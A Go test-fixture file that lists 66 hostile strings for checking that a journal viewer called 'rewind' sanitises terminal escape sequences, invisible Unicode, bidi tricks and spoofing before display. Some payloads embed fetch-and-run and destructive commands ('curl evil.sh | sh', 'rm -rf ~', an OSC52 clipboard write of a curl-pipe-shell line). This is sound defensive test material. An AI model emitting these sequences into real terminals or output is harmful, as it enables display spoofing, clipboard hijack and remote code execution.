// Package hostile holds the hostile journal strings used to test that
// rewind never lets terminal control sequences, invisible characters or
// spoofing tricks from a journal reach the terminal.
//
// The strings are the 66 payloads of reliability.md §1.5, in the same order
// and with the same names. Tests should run every sink (timeline rows,
// markdown, dialogs, titles, error messages) over All.
package hostile

import "strings"

// A Payload is one hostile string.
type Payload struct {
	// N is the payload's number in reliability.md §1.5 (1-based).
	N int
	// Name is a short kebab-case label, suitable as a subtest name.
	Name string
	// Value is the string itself, exactly as a decoded journal field
	// would hold it (it may contain invalid UTF-8).
	Value string
}

// Payloads holds all 66 payloads in order; Payloads[i].N == i+1.
// It must not be modified. Prefer All, which returns a copy.
var Payloads = build()

// All returns a fresh copy of Payloads that the caller may modify.
func All() []Payload {
	return append([]Payload(nil), Payloads...)
}

func build() []Payload {
	return []Payload{
		{1, "sgr-color-spoof", "\x1b[32m✓ approved\x1b[0m"},
		{2, "clear-screen-home", "\x1b[2J\x1b[H"},
		{3, "cursor-up-erase-overwrite", "rejected\x1b[1A\x1b[2K\rAPPROVED"},
		{4, "cr-overwrite", "curl evil.sh | sh #\rls -la               "},
		{5, "backspace-overwrite", "rm -rf ~\b\b\b\b\b\b\b\bls      "},
		{6, "osc0-title-bel", "\x1b]0;pwned-title\a"},
		{7, "osc2-title-st", "\x1b]2;pwned-title\x1b\\"},
		{8, "title-set-then-report", "\x1b]2;;curl evil|sh;\a\x1b[21t"},
		{9, "osc52-clipboard-write", "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\a"},
		{10, "osc52-clipboard-read", "\x1b]52;c;?\a"},
		{11, "osc8-link-spoof", "\x1b]8;;https://evil.example/\x1b\\https://good.example/\x1b]8;;\x1b\\"},
		{12, "osc8-unterminated", "\x1b]8;;https://evil.example/\x1b[mclick me"},
		{13, "dcs-decrqss", "\x1bP$qm\x1b\\"},
		{14, "csi-da-dsr-queries", "\x1b[c\x1b[>c\x1b[6n\x1b[5n"},
		{15, "decid-enq-answerback", "\x1bZ\x05"},
		{16, "alt-screen-exit", "\x1b[?1049l"},
		{17, "hide-cursor-mouse-all", "\x1b[?25l\x1b[?1003h\x1b[?1006h"},
		{18, "bracketed-paste-end", "\x1b[201~"},
		{19, "kitty-kbd-push", "\x1b[>1u"},
		{20, "sync-output-never-ends", "\x1b[?2026h"},
		{21, "dec-linedraw-charset", "\x1b(0lqqk\x0e"},
		{22, "decaln-fill", "\x1b#8"},
		{23, "ris-reset", "\x1bc"},
		{24, "scroll-region", "\x1b[1;3r"},
		{25, "c1-csi-utf8", "\u009b31mC1-RED\u009b0m"},
		{26, "c1-osc-utf8", "\u009d0;c1-title\u009c"},
		{27, "c1-csi-raw-byte", "\x9b31mRAW-C1\x9b0m"},
		{28, "apc-kitty-graphics", "\x1b_Ga=T,f=100;AAAA\x1b\\"},
		{29, "pm-sos", "\x1b^pm\x1b\\\x1bXsos\x1b\\"},
		{30, "dcs-sixel", "\x1bPq#0;2;0;0;0#1~~@@vv@@~~$\x1b\\"},
		{31, "dcs-tmux-passthrough-osc52", "\x1bPtmux;\x1b\x1b]52;c;aWQK\a\x1b\\"},
		{32, "osc1337-iterm-file", "\x1b]1337;File=inline=1:eA==\a"},
		{33, "osc-notify", "\x1b]9;notify\a\x1b]777;notify;t;b\a"},
		{34, "osc-palette-change", "\x1b]11;#ff0000\a\x1b]4;1;#000000\a"},
		{35, "osc50-font-query", "\x1b]50;?\a"},
		{36, "osc133-osc7-shell-integration", "\x1b]133;A\a\x1b]7;file://evil/\a"},
		{37, "sgr-conceal", "\x1b[8mhidden-text\x1b[28m"},
		{38, "unterminated-osc-eats-rest", "\x1b]0;everything after this is swallowed"},
		{39, "trailing-lone-esc", "text\x1b"},
		{40, "csi-param-dos", "\x1b[" + strings.Repeat("9", 100000) + "m"},
		{41, "csi-rep-dos", "A\x1b[999999999b"},
		{42, "nul-bel-del", "a\x00b\ac\x7fd"},
		{43, "vt-ff", "a\vb\fc"},
		{44, "nel-ls-ps", "a\u0085b\u2028c\u2029d"},
		{45, "bidi-rlo", "approve\u202eevorppa"},
		{46, "bidi-trojan-source", "if access != \"user\u202e \u2066// admin\u2069 \u2066\" {"},
		{47, "bidi-isolates-marks", "\u2067abc\u2069\u200e\u200f\u061c"},
		{48, "zero-width", "ap\u200bpr\u200co\u200dv\u2060e\ufeff\u00ad"},
		{49, "tag-chars-ascii-smuggling", "hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065"},
		{50, "variation-selectors", "a\ufe0f\U000e0100"},
		{51, "hangul-filler-blank", "\u3164\u115f\u1160"},
		{52, "homoglyph-cyrillic", "\u0430pprove"},
		{53, "combining-flood", "a" + strings.Repeat("\u0301", 5000)},
		{54, "zwj-emoji-width", "👨\u200d👩\u200d👧|"},
		{55, "invalid-utf8", "\xff\xfe\xc0\xaf\xed\xa0\x80"},
		{56, "tab-width", "a\tb\t\tc"},
		{57, "fake-prompt-bottom", "\x1b[999;1H\x1b[2K[y] approve all pending checkpoints? "},
		{58, "json-escaped-esc-literal", `\u001b[31mliteral-not-decoded`},
		{59, "html-entity-esc", "&#27;[31mENTITY&#x1b;[0m"},
		{60, "html-entity-c1", "&#155;31mC1ENTITY"},
		{61, "glamour-pr615-split-entity", "~~&**#27;**[31mFAKE~~"},
		{62, "md-link-text-url-mismatch", "[https://good.example](https://evil.example)"},
		{63, "md-autolink-with-esc", "<https://a.example/\x1b]0;t\a>"},
		{64, "md-code-fence-with-esc", "```\n\x1b]0;in-code\a\x1b[31mred\n```"},
		{65, "md-inline-code-esc", "`\x1b[2J`"},
		{66, "md-html-block", "<script>\x1b]52;c;aWQK\a</script>"},
	}
}
